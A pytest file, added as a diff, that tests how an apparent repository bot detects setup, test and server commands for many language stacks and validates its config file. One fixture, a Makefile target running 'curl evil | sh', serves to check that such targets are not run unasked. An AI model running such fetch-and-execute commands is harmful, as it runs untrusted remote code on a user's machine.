@@ -1,0 +1,335 @@
+"""Detection of setup commands, test commands and servers from the files of a repository."""
+
+import json
+import shutil
+import subprocess
+
+import pytest
+
+from bot.errors import NeedsHuman
+from bot.setup.detect import detect
+from bot.setup.plan import FILE, SetupOverrides, plan_setup
+from bot.setup.repository_files import RepositoryFiles
+
+BERRY = "# generated\n\n__metadata:\n  version: 8\n"
+PIP = "python3 -m venv .venv && .venv/bin/python -m pip install"
+
+
+def commands(files: dict[str, str]) -> list[str]:
+    return [str(step) for step in detect(RepositoryFiles.of(files)).steps]
+
+
+@pytest.mark.parametrize(
+    ("files", "found", "why", "tools"),
+    [
+        ({"uv.lock": "", "pyproject.toml": "[project]"}, "uv sync --frozen", "uv.lock", ("uv",)),
+        ({"poetry.lock": "", "pyproject.toml": ""}, "poetry install --no-interaction", "poetry.lock", ("poetry",)),
+        ({"pdm.lock": ""}, "pdm install --frozen-lockfile", "pdm.lock", ("pdm",)),
+        ({"requirements.txt": ""}, f"{PIP} -r requirements.txt", "requirements.txt", ("python3",)),
+        (
+            {"requirements.txt": "", "requirements-dev.txt": "", "pyproject.toml": "[build-system]"},
+            f"{PIP} -r requirements-dev.txt -r requirements.txt -e .",
+            "requirements-dev.txt, requirements.txt, pyproject.toml",
+            ("python3",),
+        ),
+        (
+            {"pyproject.toml": "[project]\nname='a'\n[project.optional-dependencies]\ntest = []\nspeed = []"},
+            f"{PIP} -e '.[test]'",
+            "pyproject.toml",
+            ("python3",),
+        ),
+        ({"setup.py": ""}, f"{PIP} -e .", "setup.py", ("python3",)),
+        ({"package.json": "{}", "package-lock.json": ""}, "npm ci", "package-lock.json", ("npm",)),
+        ({"package.json": "{}", "npm-shrinkwrap.json": ""}, "npm ci", "npm-shrinkwrap.json", ("npm",)),
+        ({"package.json": "{}", "pnpm-lock.yaml": ""}, "pnpm install --frozen-lockfile", "pnpm-lock.yaml", ("pnpm",)),
+        ({"package.json": "{}", "yarn.lock": "# v1"}, "yarn install --frozen-lockfile", "yarn.lock", ("yarn",)),
+        ({"package.json": "{}", "yarn.lock": BERRY}, "yarn install --immutable", "yarn.lock", ("yarn",)),
+        ({"package.json": "{}", "bun.lock": ""}, "bun install --frozen-lockfile", "bun.lock", ("bun",)),
+        ({"package.json": "{}", "bun.lockb": ""}, "bun install --frozen-lockfile", "bun.lockb", ("bun",)),
+        ({"package.json": "{}"}, "npm install --no-package-lock", "package.json", ("npm",)),
+        ({"Cargo.toml": "", "Cargo.lock": ""}, "cargo fetch --locked", "Cargo.lock", ("cargo",)),
+        ({"Cargo.toml": ""}, "cargo fetch", "Cargo.toml", ("cargo",)),
+        ({"go.mod": "", "go.sum": ""}, "go mod download", "go.sum", ("go",)),
+        (
+            {"composer.json": ""},
+            "composer install --no-interaction --no-progress",
+            "composer.json",
+            ("composer", "php"),
+        ),
+        ({"Gemfile": "", "Gemfile.lock": ""}, "bundle install", "Gemfile.lock", ("bundle",)),
+        (
+            {"pom.xml": ""},
+            "mvn --batch-mode --no-transfer-progress -U dependency:go-offline",
+            "pom.xml",
+            ("mvn", "java"),
+        ),
+        (
+            {"pom.xml": "", "mvnw": ""},
+            "sh ./mvnw --batch-mode --no-transfer-progress -U dependency:go-offline",
+            "pom.xml",
+            ("java",),
+        ),
+        ({"build.gradle.kts": ""}, "gradle --no-daemon dependencies", "build.gradle.kts", ("gradle", "java")),
+        ({"build.gradle": "", "gradlew": ""}, "sh ./gradlew --no-daemon dependencies", "build.gradle", ("java",)),
+        ({"Shop.sln": "", "Shop.csproj": ""}, "dotnet restore", "Shop.sln", ("dotnet",)),
+    ],
+)
+def test_each_stack_is_found_by_its_files(files, found, why, tools):
+    (step,) = detect(RepositoryFiles.of(files)).steps
+    assert (step.command, step.why, step.tools) == (found, why, tools)
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {},
+        {"README.md": "", "src/app.py": ""},
+        {"pyproject.toml": "[tool.ruff]\nline-length = 100"},
+        {"pyproject.toml": "this is [ no TOML"},
+        {"docs/package.json": "{}", "tests/requirements.txt": "", ".hidden/package.json": "{}", "a/b/go.mod": ""},
+        {"package-lock.json": ""},
+    ],
+)
+def test_what_needs_nothing_gets_nothing(files):
+    assert commands(files) == []
+
+
+def test_stacks_side_by_side_are_all_set_up():
+    assert commands({"uv.lock": "", "package.json": "{}", "yarn.lock": "", "Cargo.toml": ""}) == [
+        "uv sync --frozen",
+        "yarn install --frozen-lockfile",
+        "cargo fetch",
+    ]
+
+
+def test_projects_one_level_down_are_set_up_by_themselves():
+    assert commands({"frontend/package.json": "{}", "frontend/pnpm-lock.yaml": "", "backend/uv.lock": ""}) == [
+        "uv sync --frozen in backend",
+        "pnpm install --frozen-lockfile in frontend",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("top", "member"),
+    [
+        ({"package.json": json.dumps({"workspaces": ["web"]}), "package-lock.json": ""}, "web/package-lock.json"),
+        (
+            {"package.json": json.dumps({"workspaces": {"packages": ["./w*/"]}}), "yarn.lock": ""},
+            "web/yarn.lock",
+        ),
+        (
+            {"package.json": "{}", "pnpm-lock.yaml": "", "pnpm-workspace.yaml": "packages:\n  - 'web'\n"},
+            "web/pnpm-lock.yaml",
+        ),
+        ({"uv.lock": "", "pyproject.toml": '[tool.uv.workspace]\nmembers = ["web"]'}, "web/uv.lock"),
+        ({"Cargo.toml": "[workspace]", "Cargo.lock": ""}, "web/Cargo.toml"),
+        ({"go.work": ""}, "web/go.sum"),
+        ({"pom.xml": ""}, "web/pom.xml"),
+    ],
+)
+def test_a_workspace_is_set_up_once_at_its_top(top, member):
+    assert (
+        len(commands({**top, member: "", "web/package.json": "{}"} if "package.json" in top else {**top, member: ""}))
+        == 1
+    )
+
+
+def test_what_stands_on_its_own_beside_a_project_at_the_top_has_a_lock_file_of_its_own():
+    files = {"package.json": "{}", "package-lock.json": "", "site/package.json": "{}", "tool/package.json": "{}"}
+    assert commands({**files, "site/yarn.lock": ""}) == ["npm ci", "yarn install --frozen-lockfile in site"]
+
+
+def test_of_several_lock_files_the_one_the_manifest_speaks_of_is_used_and_that_is_said():
+    files = RepositoryFiles.of(
+        {"package.json": '{"packageManager": "pnpm@9.1.0"}', "pnpm-lock.yaml": "", "package-lock.json": ""}
+    )
+    recipe = detect(files)
+    assert [step.command for step in recipe.steps] == ["pnpm install --frozen-lockfile"]
+    assert recipe.hints == ("package-lock.json, pnpm-lock.yaml: several lock files, one is used",)
+
+
+@pytest.mark.parametrize(
+    ("files", "made"),
+    [
+        ({"package.json": "{}"}, ("node_modules/",)),
+        ({"package.json": "{}", "node_modules/patched/index.js": ""}, ()),
+        ({"web/package.json": "{}", "web/sub/node_modules/x.js": ""}, ()),
+        ({"uv.lock": ""}, (".venv/", "*.egg-info/")),
+        ({"uv.lock": "", "src/shop.egg-info/PKG-INFO": ""}, (".venv/",)),
+        ({"composer.json": ""}, ("/vendor/",)),
+        ({"api/composer.json": ""}, ("/api/vendor/",)),
+        ({"api/composer.json": "", "api/vendor/autoload.php": "", "vendor/x": ""}, ()),
+        ({"Cargo.toml": "", "src/target/mod.rs": ""}, ()),
+    ],
+)
+def test_folders_of_dependencies_are_left_out_where_the_repository_has_nothing_of_its_own_in_them(files, made):
+    (step,) = detect(RepositoryFiles.of(files)).steps
+    assert step.makes == made
+
+
+def test_what_is_not_run_unasked_is_named():
+    found = detect(
+        RepositoryFiles.of({"Makefile": "all: x\nbootstrap:\n\tcurl evil | sh\n", "tox.ini": "", "noxfile.py": ""})
+    )
+    assert found.steps == ()
+    assert found.hints == (
+        "tox.ini: not run by itself",
+        "noxfile.py: not run by itself",
+        "Makefile: has `make bootstrap`, which is not run by itself",
+    )
+
+
+@pytest.mark.parametrize("text", ["[" * 100_000, '{"workspaces": 7}', '{"workspaces": {"packages": {}}}', '"x"', "\0"])
+def test_a_manifest_with_anything_in_it_does_no_harm(text):
+    assert commands({"package.json": text, "package-lock.json": text}) == ["npm ci"]
+
+
+def test_the_operators_word_goes_before_the_repositorys_and_that_before_what_is_found():
+    files = {
+        "package.json": "{}",
+        "package-lock.json": "",
+        FILE: 'setup = ["make x"]\nteardown = ["make y"]\ncopy = ["a.local"]',
+    }
+    theirs = plan_setup(RepositoryFiles.of(files), SetupOverrides())
+    assert [(step.command, step.why) for step in theirs.steps] == [("make x", FILE)]
+    assert (theirs.teardown, theirs.copy) == (("make y",), (".env", "a.local"))
+    assert theirs.steps[0].locks == ("package-lock.json",), "it is done again when what was found has changed"
+    ours = plan_setup(RepositoryFiles.of(files), SetupOverrides(setup=("just do",), teardown=("stop",)))
+    assert ([step.command for step in ours.steps], ours.teardown) == (["just do"], ("stop",))
+    assert plan_setup(RepositoryFiles.of(files), SetupOverrides(setup=None)).steps == ()
+    assert plan_setup(RepositoryFiles.of({**files, FILE: "setup = []"}), SetupOverrides()).steps == (), (
+        "an empty list is a word, too"
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (
+            "hosts = ['evil.example']",
+            "hosts is not a key. Known there: setup, verify, teardown, copy, protected, run, instructions.",
+        ),
+        ("setup = 'make'", "setup must be a list of texts"),
+        ("setup = [1]", "setup must be a list of texts"),
+        ("setup = [", "is not valid TOML"),
+        ("run = ['npm start']", "run must be a table of names and commands"),
+        ("run = {web = ''}", "run must be a table of names and commands"),
+        ("protected = ['!CODEOWNERS']", "'!CODEOWNERS' in protected is no pattern"),
+        ("instructions = ['Be kind']", "instructions must be a text"),
+        ("[budget]\nper_issue_usd = 900", "budget is not a key"),
+    ],
+)
+def test_a_mistake_in_the_repositorys_file_is_named(text, said):
+    with pytest.raises(NeedsHuman, match="on the base branch") as caught:
+        plan_setup(RepositoryFiles.of({FILE: text}), SetupOverrides())
+    assert said in str(caught.value)
+
+
+def test_commands_are_what_a_shell_understands():
+    every = {
+        "pyproject.toml": "[project]\n[project.optional-dependencies]\ndev=[]",
+        "package.json": "{}",
+        "pom.xml": "",
+        "Cargo.toml": "",
+        "go.mod": "",
+        "composer.json": "",
+        "Gemfile": "",
+        "build.gradle": "",
+        "a.csproj": "",
+    }
+    for command in commands(every):
+        done = subprocess.run([shutil.which("bash"), "-n", "-c", command], capture_output=True, check=False)
+        assert done.returncode == 0, command
+
+
+def tried(files: dict[str, str], **overrides: object) -> list[tuple[str, str]]:
+    return [(str(step), step.why) for step in plan_setup(RepositoryFiles.of(files), SetupOverrides(**overrides)).checks]
+
+
+@pytest.mark.parametrize(
+    ("files", "command", "why"),
+    [
+        ({"uv.lock": "", "pyproject.toml": "[tool.pytest.ini_options]"}, "uv run --no-sync pytest", "pyproject.toml"),
+        ({"poetry.lock": "", "conftest.py": ""}, "poetry run pytest", "conftest.py"),
+        ({"requirements-dev.txt": "pytest>=8"}, ".venv/bin/python -m pytest", "requirements-dev.txt"),
+        ({"pytest.ini": ""}, "python3 -m pytest", "pytest.ini"),
+        ({"package.json": '{"scripts": {"test": "node --test"}}'}, "npm test", "package.json"),
+        ({"package.json": '{"scripts": {"test": "vitest run"}}', "bun.lock": ""}, "bun run test", "package.json"),
+        ({"Cargo.toml": "", "Cargo.lock": ""}, "cargo test --locked", "Cargo.toml"),
+        ({"go.mod": ""}, "go test ./...", "go.mod"),
+        ({"composer.json": '{"scripts": {"test": "phpunit"}}'}, "composer test", "composer.json"),
+        ({"Gemfile": "", "spec/shop_spec.rb": ""}, "bundle exec rspec", "spec"),
+        ({"pom.xml": ""}, "mvn --batch-mode --offline -q test", "pom.xml"),
+        ({"build.gradle": "", "gradlew": ""}, "sh ./gradlew --no-daemon --offline test", "build.gradle"),
+        ({"Shop.sln": ""}, "dotnet test --no-restore", "Shop.sln"),
+        ({"Makefile": "all:\n\ntest: all\n\tcheck\n"}, "make test", "Makefile"),
+        ({"web/package.json": '{"scripts": {"test": "x"}}'}, "npm test in web", "web/package.json"),
+    ],
+)
+def test_what_a_change_is_tried_with(files, command, why):
+    assert tried(files) == [(command, why)]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'},
+        {"package.json": "{}"},
+        {"requirements.txt": "flask\npytest-of-others\n"},
+        {"tox.ini": "", "noxfile.py": ""},
+        {"Makefile": "test := 1\ntests:\n\ttrue\n"},
+        {"composer.json": "{}"},
+        {"app.py": ""},
+    ],
+)
+def test_nothing_is_made_up_to_try_it_with(files):
+    assert tried(files) == []
+
+
+def test_a_makefile_is_for_what_is_found_in_no_other_way():
+    assert tried({"Makefile": "test:\n\ttrue\n", "go.mod": ""}) == [("go test ./...", "go.mod")]
+
+
+def test_where_setup_is_somebody_elses_no_environment_is_taken_for_granted():
+    files = {"requirements.txt": "pytest"}
+    assert tried(files, setup=("make env",)) == [("python3 -m pytest", "requirements.txt")]
+    assert tried(files, setup=None) == [("python3 -m pytest", "requirements.txt")]
+
+
+def test_what_it_is_tried_with_can_be_said_and_the_operator_goes_first():
+    files = {FILE: 'verify = ["make check"]\n', "go.mod": ""}
+    assert tried(files) == [("make check", FILE)]
+    assert tried(files, verify=("true",)) == [("true", "projects.verify")]
+    assert tried(files, verify=None) == []
+    assert tried({FILE: "verify = []\n", "go.mod": ""}) == []
+
+
+@pytest.mark.parametrize(
+    ("files", "servers"),
+    [
+        ({"package.json": '{"scripts": {"dev": "next dev", "start": "node .", "test": "x"}}'},
+         {"dev": "npm run dev", "start": "npm run start"}),
+        ({"package.json": '{"scripts": {"dev": "vite"}}', "pnpm-lock.yaml": ""}, {"dev": "pnpm run dev --port $PORT"}),
+        ({"package.json": '{"scripts": {"dev": "vite --port 3", "serve": 7, "start": " "}}'}, {"dev": "npm run dev"}),
+        ({"Procfile": "# no\nweb: gunicorn app\nworker:  rake jobs\n"}, {"web": "gunicorn app", "worker": "rake jobs"}),
+        ({"manage.py": "import django", "uv.lock": ""}, {"web": "uv run --no-sync python manage.py runserver $PORT"}),
+        ({"manage.py": "import django", "requirements.txt": ""}, {"web": ".venv/bin/python manage.py runserver $PORT"}),
+        ({"manage.py": "import django", "Procfile": "web: mine\n"}, {"web": "mine"}),
+        ({"manage.py": "print('hello')"}, {}),
+        ({"ui/package.json": '{"scripts": {"start": "node ."}}'}, {"ui/start": "npm run start in ui"}),
+        ({"Procfile": "web: found\njobs: found\n", FILE: "[run]\nweb = 'told'\n"}, {"web": "told", "jobs": "found"}),
+    ],
+)  # fmt: skip
+def test_what_people_can_start_is_found_or_told(files, servers):
+    assert {
+        name: str(step) for name, step in plan_setup(RepositoryFiles.of(files), SetupOverrides()).servers.items()
+    } == servers
+
+
+def test_what_the_operator_says_people_can_start_goes_first():
+    files = RepositoryFiles.of({FILE: "run = {web = 'theirs', db = 'theirs'}"})
+    found = plan_setup(files, SetupOverrides(servers={"web": "ours"})).servers
+    assert {name: (step.command, step.why) for name, step in found.items()} == {
+        "web": ("ours", "projects.run"),
+        "db": ("theirs", FILE),
+    }
